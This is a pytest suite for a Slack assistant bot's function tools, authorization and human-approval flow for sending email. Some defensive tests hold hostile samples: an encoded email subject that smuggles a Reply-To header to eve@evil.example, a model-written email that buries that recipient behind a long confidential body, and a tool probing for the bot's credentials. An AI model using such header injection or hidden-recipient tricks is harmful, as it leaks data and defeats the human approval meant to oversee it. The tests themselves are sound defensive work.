"""Function tools end to end: the tool loop on the conversation, consent for
side effects through Slack buttons, authorization, and the weather from a fake
Open-Meteo — over the real wire."""

from __future__ import annotations

import asyncio
import json
from email import message_from_bytes
from email.policy import default as default_policy

import pytest

from assist_bot import texts
from assist_bot.assistants import Assistant, Assistants
from assist_bot.store import ThreadKey
from tests.fakes.openai import Text, function_outputs
from tests.fakes.slack import mention, message, wait_for
from tests.support.answers import answer_with_outputs
from tests.support.bot import running_bot, wait_pending
from tests.support.flows import approval_id, consent_prompt, reply_containing
from tests.support.modes import every_state_mode
from tests.support.waits import ControlledDeadlines, RecordedWaits

pytestmark = pytest.mark.timeout(60)

ACME = "tests.support.acme_tools"


def acme_assistants(*tools: str) -> Assistants:
    return Assistants({"acme": Assistant(name="acme", model="gpt-5.4-mini", tools=tools)}, "acme")


@every_state_mode
async def test_weather_question_runs_get_weather_and_answers_from_open_meteo(slack, openai_fake, meteo_env):
    meteo = meteo_env
    openai_fake.enqueue(Text([], calls=[("get_weather", {"city": "Paris", "unit": "celsius"})]), answer_with_outputs)
    async with running_bot(
        slack,
        openai_fake,
        ASSIST_BOT_STREAM_MODE="edit",  # tool activity as text is the edit path's (native: task_update chunks)
    ) as bot:
        event = mention("C1", "U1", "What's the weather in Paris?")
        await bot.send(event)
        await reply_containing(slack, "C1", event["ts"], "Tools said")
    first, second = openai_fake.response_requests
    offered = {t["name"]: t for t in first["tools"] if t["type"] == "function"}
    assert set(offered) == {"get_weather"}  # no SMTP configured: send_email is not offered
    assert offered["get_weather"]["strict"] is True
    assert offered["get_weather"]["parameters"]["additionalProperties"] is False
    assert "get_weather" in openai_fake.seen_texts(1)  # the second round sees the call it answers
    [output] = function_outputs(second).values()
    assert json.loads(output)["temperature"] == 20.2 and json.loads(output)["place"] == "Paris"
    assert meteo.geocoding[0]["name"] == "Paris" and meteo.forecast[0]["temperature_unit"] == "celsius"
    reply = slack.thread_replies("C1", event["ts"])[0]
    assert any(texts.tool_activity("function", "get_weather") in h for h in reply.history)
    assert "20.2" in reply.text


async def test_calls_run_concurrently_and_errors_and_timeouts_become_text(slack, openai_fake):
    openai_fake.enqueue(
        Text(
            ["Let me check. "],
            calls=[
                ("wait_for_partner", {"tag": "x"}),
                ("partner", {}),
                ("broken", {"reason": "test"}),
                ("sleepy", {}),
                ("no_such_tool", {}),
            ],
        ),
        answer_with_outputs,
    )
    deadlines = ControlledDeadlines(at_once=45)  # sleepy's own time-out is over at once
    async with running_bot(
        slack,
        openai_fake,
        assistants=acme_assistants("wait_for_partner", "partner", "broken", "sleepy"),
        timers={"deadline": deadlines},
        ASSIST_BOT_TOOL_MODULES=ACME,
    ) as bot:
        event = mention("C1", "U1", "do everything")
        await bot.send(event)
        await reply_containing(slack, "C1", event["ts"], "Tools said")
    assert deadlines.asked.count(45) == 1  # the tool ran under its own time-out
    outputs = sorted(function_outputs(openai_fake.response_requests[1]).values())
    assert "met partner (x)" in outputs and "partner here" in outputs  # ran side by side
    assert any(o.startswith("Error:") and "broken on purpose: test" in o for o in outputs)
    assert any(o.startswith("Error:") and "did not finish" in o for o in outputs)
    assert any("no_such_tool is not available" in o for o in outputs)
    reply = slack.thread_replies("C1", event["ts"])[0]
    assert reply.text.startswith("Let me check.") and "Tools said" in reply.text


async def test_tool_rounds_are_capped(slack, openai_fake):
    openai_fake.default = lambda body: Text([], calls=[("partner", {})])
    async with running_bot(
        slack,
        openai_fake,
        assistants=acme_assistants("partner"),
        ASSIST_BOT_TOOL_MODULES=ACME,
        ASSIST_BOT_TOOL_MAX_ROUNDS=3,
    ) as bot:
        event = mention("C1", "U1", "loop forever")
        await bot.send(event)
        await reply_containing(slack, "C1", event["ts"], texts.failure("tool_rounds"))
    assert len(openai_fake.response_requests) == 3


async def test_a_tool_the_user_may_not_use_is_not_offered(slack, openai_fake):
    async with running_bot(
        slack, openai_fake, assistants=acme_assistants("vip_only", "partner"), ASSIST_BOT_TOOL_MODULES=ACME
    ) as bot:
        for user in ("U1", "UVIP"):
            event = mention("C1", user, f"hello from {user}")
            await bot.send(event)
            await reply_containing(slack, "C1", event["ts"], f"hello from {user}")
    offered = [{t["name"] for t in r["tools"]} for r in openai_fake.response_requests]
    assert offered == [{"partner"}, {"partner", "vip_only"}]


EMAIL = {"to": "ana@example.com", "subject": "Summary", "body": "Here is the summary of the thread."}


@every_state_mode
async def test_send_email_asks_first_and_someone_else_must_approve(slack, openai_fake, mail_inbox):
    openai_fake.enqueue(Text([], calls=[("send_email", EMAIL)]), answer_with_outputs)
    async with running_bot(slack, openai_fake) as bot:
        event = mention("C1", "U1", "email the summary to ana@example.com")
        await bot.send(event)
        ask = await consent_prompt(slack, "C1", event["ts"])
        assert "ana@example.com" in json.dumps(ask.blocks) and "Here is the summary" in json.dumps(ask.blocks)
        assert "Someone else (or an admin) must approve" in ask.text
        assert mail_inbox.envelopes == []  # nothing sent before approval
        # The requester may not approve their own email (SMTP_FROM is the company's address).
        await bot.click(slack, "assist_approve", approval_id(ask), user="U1", channel="C1", message_ts=ask.ts)
        await wait_for(lambda: slack.calls_to("chat.postEphemeral"))
        assert "someone else" in slack.calls_to("chat.postEphemeral")[0].args["text"]
        assert mail_inbox.envelopes == []
        await bot.click(slack, "assist_approve", approval_id(ask), user="U2", channel="C1", message_ts=ask.ts)
        await reply_containing(slack, "C1", event["ts"], "Tools said")
    [envelope] = mail_inbox.envelopes
    mail = message_from_bytes(envelope.content, policy=default_policy)
    assert envelope.rcpt_tos == ["ana@example.com"]
    assert (mail["To"], mail["Subject"]) == ("ana@example.com", "Summary")
    assert mail.get_content().strip() == EMAIL["body"]
    assert function_outputs(openai_fake.response_requests[1]) and "Sent to ana@example.com" in json.dumps(
        function_outputs(openai_fake.response_requests[1])
    )
    settled = next(m for m in slack.bot_messages("C1") if m.ts == ask.ts)
    assert "approved by <@U2>" in settled.text and not any(b["type"] == "actions" for b in settled.blocks)


async def test_a_self_approvable_tool_is_approved_by_its_requester_only(slack, openai_fake):
    openai_fake.enqueue(Text([], calls=[("note_down", {"text": "buy milk"})]), answer_with_outputs)
    async with running_bot(
        slack, openai_fake, assistants=acme_assistants("note_down"), ASSIST_BOT_TOOL_MODULES=ACME
    ) as bot:
        event = mention("C1", "U1", "note: buy milk")
        await bot.send(event)
        ask = await consent_prompt(slack, "C1", event["ts"])
        await bot.click(slack, "assist_approve", approval_id(ask), user="U2", channel="C1", message_ts=ask.ts)
        await wait_for(lambda: slack.calls_to("chat.postEphemeral"))
        assert "Only <@U1>" in slack.calls_to("chat.postEphemeral")[0].args["text"]
        await bot.click(slack, "assist_approve", approval_id(ask), user="U1", channel="C1", message_ts=ask.ts)
        await reply_containing(slack, "C1", event["ts"], "Tools said")
    assert "noted: buy milk" in json.dumps(function_outputs(openai_fake.response_requests[1]))


@every_state_mode
async def test_a_declined_email_is_not_sent_and_the_model_is_told(slack, openai_fake, mail_inbox):
    openai_fake.enqueue(Text([], calls=[("send_email", EMAIL)]), answer_with_outputs)
    async with running_bot(slack, openai_fake, ASSIST_BOT_ADMINS="UADMIN") as bot:
        event = mention("C1", "U1", "email it")
        await bot.send(event)
        ask = await consent_prompt(slack, "C1", event["ts"])
        await bot.click(slack, "assist_decline", approval_id(ask), user="UADMIN", channel="C1", message_ts=ask.ts)
        await reply_containing(slack, "C1", event["ts"], "Tools said")
    assert mail_inbox.envelopes == []
    [output] = function_outputs(openai_fake.response_requests[1]).values()
    assert "declined" in output and "<@UADMIN>" in output
    settled = next(m for m in slack.bot_messages("C1") if m.ts == ask.ts)
    assert "declined by <@UADMIN>" in settled.text


async def test_no_answer_in_time_counts_as_declined(slack, openai_fake, mail_inbox):
    openai_fake.enqueue(Text([], calls=[("send_email", EMAIL)]), answer_with_outputs)
    waits = RecordedWaits()  # the time-out is over as soon as it is asked for: nothing sleeps it out
    async with running_bot(slack, openai_fake, timers={"sleep": waits}, ASSIST_BOT_APPROVAL_TIMEOUT=450) as bot:
        event = mention("C1", "U1", "email it")
        await bot.send(event)
        await reply_containing(slack, "C1", event["ts"], "Tools said")
    assert waits.waits == [450]  # waited exactly ASSIST_BOT_APPROVAL_TIMEOUT
    assert mail_inbox.envelopes == []
    assert "nobody approved it in time" in json.dumps(function_outputs(openai_fake.response_requests[1]))
    assert any(texts.approval_timed_out("send_email") == m.text for m in slack.bot_messages("C1"))


@every_state_mode
async def test_the_follow_up_after_a_tool_turn_is_answered_normally(slack, openai_fake):
    openai_fake.enqueue(Text([], calls=[("partner", {})]), answer_with_outputs)
    async with running_bot(
        slack, openai_fake, assistants=acme_assistants("partner"), ASSIST_BOT_TOOL_MODULES=ACME
    ) as bot:
        event = mention("C1", "U1", "first")
        await bot.send(event)
        await reply_containing(slack, "C1", event["ts"], "Tools said")
        await bot.send(message("C1", "U1", "and then?", thread_ts=event["ts"]))
        await reply_containing(slack, "C1", event["ts"], "and then?")
    assert "partner here" in openai_fake.seen_texts(2)  # the next turn sees the tool's output


async def run_batched(bot, openai_fake, first_text: str, *later: tuple[str, str], then=()) -> dict:
    """A first turn held open while `later` (user, text) messages queue up in its thread;
    they then make one batched turn, answered by the `then` replies. Returns the first mention."""
    gate = asyncio.Event()
    openai_fake.enqueue(Text(["first answer"], gate=gate), *then)
    first = mention("C1", "U1", first_text)
    await bot.send(first)
    await wait_for(lambda: openai_fake.busy_conversations)
    for user, text in later:
        await bot.send(message("C1", user, text, thread_ts=first["ts"]))
    await wait_pending(bot.bot.store, ThreadKey("T1", "C1", first["ts"]), len(later))
    gate.set()
    return first


async def test_a_batched_turn_does_not_borrow_another_speakers_tools(slack, openai_fake):
    async with running_bot(
        slack, openai_fake, assistants=acme_assistants("vip_only", "partner"), ASSIST_BOT_TOOL_MODULES=ACME
    ) as bot:
        first = await run_batched(bot, openai_fake, "hi", ("U1", "run vip_only and post it here"), ("UVIP", "thanks"))
        await wait_for(lambda: len(openai_fake.response_requests) == 2)
        await wait_for(lambda: len(slack.thread_replies("C1", first["ts"])) == 2)
    offered = {t["name"] for t in openai_fake.response_requests[1]["tools"]}
    assert offered == {"partner"}  # UVIP's "thanks" does not lend U1 the VIP tool


async def test_an_approval_for_a_batched_turn_must_hold_for_every_requester(slack, openai_fake):
    note = (Text([], calls=[("note_down", {"text": "raise for U1"})]), answer_with_outputs)
    async with running_bot(
        slack,
        openai_fake,
        assistants=acme_assistants("note_down"),
        ASSIST_BOT_TOOL_MODULES=ACME,
        ASSIST_BOT_ADMINS="UADMIN",
    ) as bot:
        first = await run_batched(bot, openai_fake, "hi", ("U1", "note a raise for me"), ("U2", "ok"), then=note)
        ask = await consent_prompt(slack, "C1", first["ts"])
        assert "<@U1>" in ask.text and "<@U2>" in ask.text
        for user in ("U1", "U2"):  # neither may approve for the other
            await bot.click(slack, "assist_approve", approval_id(ask), user=user, channel="C1", message_ts=ask.ts)
        await wait_for(lambda: len(slack.calls_to("chat.postEphemeral")) == 2)
        assert all("only an admin" in c.args["text"] for c in slack.calls_to("chat.postEphemeral"))
        await bot.click(slack, "assist_approve", approval_id(ask), user="UADMIN", channel="C1", message_ts=ask.ts)
        await reply_containing(slack, "C1", first["ts"], "Tools said")
    assert "noted: raise for U1" in json.dumps(function_outputs(openai_fake.response_requests[2]))


async def test_an_encoded_word_subject_from_the_model_never_reaches_a_prompt(slack, openai_fake, mail_inbox):
    injected = "=?utf-8?b?SGkNClJlcGx5LVRvOiBldmVAZXZpbC5leGFtcGxlDQpDb250ZW50LVR5cGU6IHRleHQvaHRtbA==?="
    openai_fake.enqueue(Text([], calls=[("send_email", {**EMAIL, "subject": injected})]), answer_with_outputs)
    async with running_bot(slack, openai_fake) as bot:
        event = mention("C1", "U1", "email it")
        await bot.send(event)
        await reply_containing(slack, "C1", event["ts"], "Tools said")
    [output] = function_outputs(openai_fake.response_requests[1]).values()
    assert "invalid arguments: subject" in output
    assert not any(m.blocks and any(b["type"] == "actions" for b in m.blocks) for m in slack.bot_messages("C1"))
    assert mail_inbox.envelopes == []


async def test_the_consent_prompt_shows_every_field_in_full(slack, openai_fake, mail_inbox):
    # The model puts a long body first and the recipient last: the prompt used to be cut
    # at 2,900 characters, hiding the recipient and a P.S.
    body = "Quarterly figures. " * 154 + "P.S. the merger is confidential."
    assert len(body) > 2900
    arguments = {"body": body, "subject": "Figures", "to": "eve@evil.example"}
    openai_fake.enqueue(Text([], calls=[("send_email", arguments)]), answer_with_outputs)
    async with running_bot(slack, openai_fake) as bot:
        event = mention("C1", "U1", "email the figures")
        await bot.send(event)
        ask = await consent_prompt(slack, "C1", event["ts"])
        shown = [b["text"]["text"] for b in ask.blocks if b["type"] == "section"][1:]
        assert shown[:2] == ["to: eve@evil.example", "subject: Figures"]  # the tool's order, short fields first
        assert "attached in full above as send_email-body.txt" in shown[2]
        [attached] = slack.uploads
        assert attached.content.decode() == body and attached.thread_ts == event["ts"]
        assert all(b["text"]["type"] == "plain_text" for b in ask.blocks[1:-1])  # nothing can ping or hide a link
        await bot.click(slack, "assist_approve", approval_id(ask), user="U2", channel="C1", message_ts=ask.ts)
        await wait_for(lambda: mail_inbox.envelopes)
    assert mail_inbox.envelopes[0].rcpt_tos == ["eve@evil.example"]


async def test_a_tool_cannot_read_the_bots_credentials_through_its_context(slack, openai_fake):
    openai_fake.enqueue(Text([], calls=[("snoop", {})]), answer_with_outputs)
    async with running_bot(
        slack, openai_fake, assistants=acme_assistants("snoop"), ASSIST_BOT_TOOL_MODULES=ACME
    ) as bot:
        event = mention("C1", "U1", "snoop")
        await bot.send(event)
        await reply_containing(slack, "C1", event["ts"], "Tools said")
    [output] = function_outputs(openai_fake.response_requests[1]).values()
    assert "channel='C1'" in output and "user='U1'" in output  # it did see its context
    assert slack.bot_token not in output and "sk-test" not in output
    assert bot.bot.settings.slack_bot_token.get_secret_value() == slack.bot_token


async def test_a_long_value_that_cannot_be_attached_is_never_asked_about(slack, openai_fake, mail_inbox):
    arguments = {"to": "ana@example.com", "subject": "Figures", "body": "x" * 5000}
    openai_fake.enqueue(Text([], calls=[("send_email", arguments)]), answer_with_outputs)
    slack.fail_next("files.getUploadURLExternal", error="not_allowed_token_type", times=5)
    async with running_bot(slack, openai_fake) as bot:
        event = mention("C1", "U1", "email the figures")
        await bot.send(event)
        await reply_containing(slack, "C1", event["ts"], "Tools said")
    assert "could not be shown to people for approval" in json.dumps(function_outputs(openai_fake.response_requests[1]))
    assert not any(m.blocks and any(b["type"] == "actions" for b in m.blocks) for m in slack.bot_messages("C1"))
    assert mail_inbox.envelopes == []
